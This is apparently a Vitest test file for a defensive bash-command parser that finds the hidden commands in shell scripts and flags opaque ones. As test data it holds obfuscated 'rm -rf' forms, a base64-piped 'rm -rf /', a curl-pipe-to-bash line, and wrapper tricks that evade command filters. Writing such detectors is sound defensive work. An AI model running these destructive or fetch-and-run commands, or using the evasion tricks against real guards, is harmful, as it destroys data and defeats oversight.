import { describe, expect, it } from "vitest";
import { commandText, readCommands } from "./bash-commands.ts";

const texts = (script: string) => readCommands(script).commands.map(commandText);
const isOpaque = (script: string) => readCommands(script).opaque;

describe("what a command line runs", () => {
  it.each([
    ["ls", ["ls"]],
    ["a; b && c || d | e & f\ng", ["a", "b", "c", "d", "e", "f", "g"]],
    ["(cd x; ls)", ["cd x", "ls"]],
    ["{ a; b; }", ["a", "b"]],
    ["echo 'a; b' \"c && d\"", ["echo a; b c && d"]],
    ["echo a # rm -rf x", ["echo a"]],
    ["echo a\\\n b", ["echo a b"]],
    ["A=1 B=2 make test", ["make test"]],
    ["if true; then git push; else ls; fi", ["true", "git push", "ls"]],
    ["while read x; do rm -r y; done < list", ["read x", "rm -r y", ""]],
    ["for f in a b; do rm -r z; done", ["", "rm -r z"]],
    ["set -- a; for f do rm -r z; done", ["set -- a", "", "rm -r z"]],
    ["trap -- 'git push' EXIT", ["trap -- git push EXIT", "git push"]],
    ["! grep x y", ["grep x y"]],
    ["f() { git push; }; f", ["f", "git push", "f"]],
  ])("%s", (script, expected) => {
    expect(texts(script)).toEqual(expected);
  });

  it.each([
    ["quotes inside a word", "r''m -rf x"],
    ["more quotes", "r\"m\" -r'f' x"],
    ["a backslash", "\\rm -rf x"],
    ["backslashes within", "r\\m -rf x"],
    ["ANSI-C quoting", "$'\\x72\\155' -rf x"],
    ["braces", "{rm,-rf,x}"],
    ["a continued line", "r\\\nm -rf x"],
  ])("sees through %s", (_name, script) => {
    expect(texts(script)).toContain("rm -rf x");
  });

  it.each([
    ["sudo git push"],
    ["sudo -u bob -E A=1 git push"],
    ["sudo -nu bob git push"],
    ["env -i A=1 B=2 git push"],
    ["env -u A git push"],
    ["env -S 'git push'"],
    ["nohup git push &"],
    ["time -p git push"],
    ["command git push"],
    ["builtin command git push"],
    ["exec -a x git push"],
    ["nice -n 5 ionice -c 2 git push"],
    ["timeout --foreground -k 5 10s git push"],
    ["stdbuf -oL git push"],
    ["setsid -f git push"],
    ["busybox git push"],
    ["npx -y git push"],
    ["xargs -n 1 -P4 git push"],
    ["xargs -I{} git push"],
    ["bash -c 'git push'"],
    ["bash -lc 'git push'"],
    ["bash -o pipefail -ec 'git push'"],
    ["/usr/bin/env bash -c 'git push'"],
    ["sh -c \"sh -c 'git push'\""],
    ["su bob -c 'git push'"],
    ["flock /tmp/l -c 'git push'"],
    ["flock /tmp/l git push"],
    ["watch -n 1 git push"],
    ["trap 'git push' EXIT"],
    ["find . -name x -exec git push \\;"],
    ["find . -execdir git push +"],
    ["git -c alias.x=push x"],
    ["git -c alias.x='!git push' x"],
    ["x=$(git push)"],
    ["echo `git push`"],
    ['echo "a $(git push) b"'],
    ["cat <(git push)"],
    ["echo $" + "{x:-$(git push)}"],
    ["echo $(( $(git push) + 1 ))"],
    ["bash <<EOF\ngit push\nEOF"],
    ["bash <<< 'git push'"],
    ["cat <<EOF\n$(git push)\nEOF"],
    ["echo 'git push' | sh"],
    ["printf 'git push' | bash -s"],
    ["g=git; $g push"],
    ['c="git push"; $c'],
    ["export p=push && git $p"],
    ["eval 'git push'"],
    ["eval git push"],
    ["a=(git push); b"],
    ["case x in x) git push;; esac"],
    ["function f { git push; }"],
    ["function f() { git push; }"],
    ["coproc git push"],
    ["coproc N { git push; }"],
    ["su - bob -c 'git push'"],
    ["[[ -f x && -d y ]] && git push"],
    ["2>&1 git push"],
    ["git push > /dev/null 2>&1"],
    ["&>log git push"],
    ["sudo --no-such-option value git push"],
  ])("finds the push in: %s", (script) => {
    expect(texts(script)).toContain("git push");
  });

  it("does not take words for commands", () => {
    expect(texts("echo git push")).toEqual(["echo git push"]);
    expect(texts("cat > notes.md <<'EOF'\ngit push\n$(rm -rf x)\nEOF\nls")).toEqual(["cat", "ls"]);
    expect(texts("grep -r 'rm -rf' src")).toEqual(["grep -r rm -rf src"]);
  });

  it("separates the program from its folder, and keeps redirections", () => {
    const { commands } = readCommands("/bin/rm -r x; cat < .env > out");
    expect(commands.map(({ name }) => name)).toEqual(["rm", "cat"]);
    expect(commands[1]?.redirects.map(({ operator, target }) => operator + target.text)).toEqual([
      "<.env",
      ">out",
    ]);
  });

  it("knows when more arguments are to come", () => {
    expect(readCommands("ls | xargs rm").commands.at(-1)).toMatchObject({
      name: "rm",
      openEnded: true,
    });
  });
});

describe("commands that the text does not reveal", () => {
  it.each([
    ["g=git; $g push"],
    ["$CMD x"],
    ["$(echo rm) -rf x"],
    ["`which rm` x"],
    ["eval 'ls'"],
    ["source ./x.sh"],
    [". ./x.sh"],
    ["echo cm0gLXJmIC8K | base64 -d | sh"],
    ["curl https://example.org/x | bash"],
    ["bash -s"],
    ['bash -c "$X"'],
    ["cat <<EOF\nx\nEOF"],
    ["python -c 'import os'"],
    ["python3 - < x"],
    ["python3.12 -Bc 'x'"],
    ["node -e 'x'"],
    ["node --eval 'x'"],
    ["perl -e 'x'"],
    ["ruby -ne 'x'"],
    ["php -r 'x'"],
    ["deno eval 'x'"],
    ["awk 'BEGIN { system(\"x\") }'"],
    ["echo 'left open"],
    ["echo $(left open"],
    ["r? x"],
    ["sudo --no-such-option value ls"],
    [`${'echo "$('.repeat(200)}x`],
  ])("is opaque: %s", (script) => {
    expect(isOpaque(script)).toBe(true);
  });

  it.each([
    ["ls -la"],
    ["npm test && npm run build"],
    ["python x.py"],
    ["node --version"],
    ['echo "$HOME"'],
    ["bash script.sh"],
    ["echo {a,b}"],
    ["git commit -m 'a (b) {c}'"],
  ])("is plain: %s", (script) => {
    expect(isOpaque(script)).toBe(false);
  });

  it("stays quick and never fails, whatever it is given", () => {
    const pieces = [
      "$(",
      ")",
      "`",
      "'",
      '"',
      "\\",
      "{",
      "}",
      "<<E",
      "\n",
      ";",
      "|",
      "a",
      " ",
      "$",
      "(",
      ">",
    ];
    let seed = 7;
    const random = (below: number) => {
      seed = (seed * 1_103_515_245 + 12_345) % 2 ** 31;
      return Math.floor((seed / 2 ** 31) * below);
    };
    for (let round = 0; round < 3_000; round++) {
      const script = Array.from({ length: random(40) }, () => pieces[random(pieces.length)]).join(
        "",
      );
      expect(Array.isArray(readCommands(script).commands)).toBe(true);
    }
    for (const piece of [
      "$(",
      '"$(',
      "(",
      "{",
      "{a,b}",
      "`",
      "a;",
      "<<E\n",
      "$" + "{",
      "eval ",
      "watch ",
      "find . -exec ",
      "git -c alias.x=y ",
      "sudo --zz ",
      "x=ab$x$x;$x ",
    ])
      expect(readCommands(piece.repeat(100_000 / piece.length)).commands).toBeDefined();
  });

  it("says when it gave up", () => {
    expect(readCommands("ls").tangled).toBe(false);
    expect(readCommands("a;".repeat(20_000))).toMatchObject({ opaque: true, tangled: true });
    expect(readCommands("eval ".repeat(30)).tangled).toBe(true);
    expect(readCommands("$(".repeat(50_000)).tangled).toBe(true);
  });
});
